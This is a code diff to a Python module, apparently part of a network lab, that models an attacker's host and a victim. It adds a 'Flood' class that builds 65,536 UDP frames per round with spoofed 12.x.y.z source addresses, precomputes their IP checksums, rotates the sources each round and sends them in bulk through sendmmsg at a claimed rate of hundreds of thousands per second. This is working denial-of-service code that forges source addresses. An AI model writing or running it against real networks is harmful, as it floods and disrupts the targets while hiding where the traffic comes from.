@@ -1,5 +1,6 @@
 # SPDX-License-Identifier: BSD-3-Clause
 """What an attacker's host sends: whole frames with any source address. And what arrives at a victim, in IP bytes."""
+import ctypes
 import ipaddress
 import socket
 import struct
@@ -65,3 +66,56 @@ class Arrivals:
             parsed = lab.parse_frame(frame)
             if parsed and where[2] != socket.PACKET_OUTGOING and parsed["destination"] == address:
                 out.append(parsed)
+
+
+class iovec(ctypes.Structure):
+    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
+
+
+class msghdr(ctypes.Structure):
+    _fields_ = [("name", ctypes.c_void_p), ("name_size", ctypes.c_uint32), ("iov", ctypes.c_void_p), ("iov_count", ctypes.c_size_t),
+                ("control", ctypes.c_void_p), ("control_size", ctypes.c_size_t), ("flags", ctypes.c_int)]
+
+
+class mmsghdr(ctypes.Structure):
+    _fields_ = [("header", msghdr), ("length", ctypes.c_uint)]
+
+
+class Flood:
+    """One payload from 65,536 sources per round, 12.x.y.z, x another one in each round; hundreds of thousands a second. UDP without
+    checksum, which IPv4 allows; of the IP header's, what x adds the identification takes away."""
+    SOURCES = 1 << 16
+
+    def __init__(self, spoofer, destination, payload):
+        first = spoofer.ethernet + b"\x08\0" + packet(("12.0.0.0", 1024), destination, payload)
+        self.stride = len(first)
+        self.frames = bytearray(first * self.SOURCES)
+        low = range(self.SOURCES)
+        total = ~int.from_bytes(first[24:26], "big") & 0xFFFF
+        checksums = [~((n + total & 0xFFFF) + (n + total >> 16)) & 0xFFFF for n in low]
+        self.column(28, [n >> 8 for n in low])
+        self.column(29, [n & 0xFF for n in low])
+        self.column(24, [n >> 8 for n in checksums])
+        self.column(25, [n & 0xFF for n in checksums])
+        self.column(40, [0] * self.SOURCES)
+        self.column(41, [0] * self.SOURCES)
+        self.sock, self.round = spoofer.sock, 0
+        base = ctypes.addressof((ctypes.c_char * len(self.frames)).from_buffer(self.frames))
+        self.vectors = (iovec * self.SOURCES)(*((base + n * self.stride, self.stride) for n in low))
+        at, size = ctypes.addressof(self.vectors), ctypes.sizeof(iovec)
+        self.messages = (mmsghdr * self.SOURCES)(*(((None, 0, at + n * size, 1), 0) for n in low))
+
+    def column(self, at, values):
+        self.frames[at::self.stride] = bytes(values)
+
+    def next_sources(self):
+        self.round += 1
+        self.column(27, [self.round & 0xFF] * self.SOURCES)  # x
+        identification = (1 - self.round) % 0xFFFF    # the sum is one's complement
+        self.column(18, [identification >> 8] * self.SOURCES)
+        self.column(19, [identification & 0xFF] * self.SOURCES)
+
+    def send(self, first, count):
+        """count frames from number `first` of the round on; how many went out."""
+        out = lab.LIBC.sendmmsg(self.sock.fileno(), ctypes.byref(self.messages, first * ctypes.sizeof(mmsghdr)), count, 0)
+        return max(out, 0)
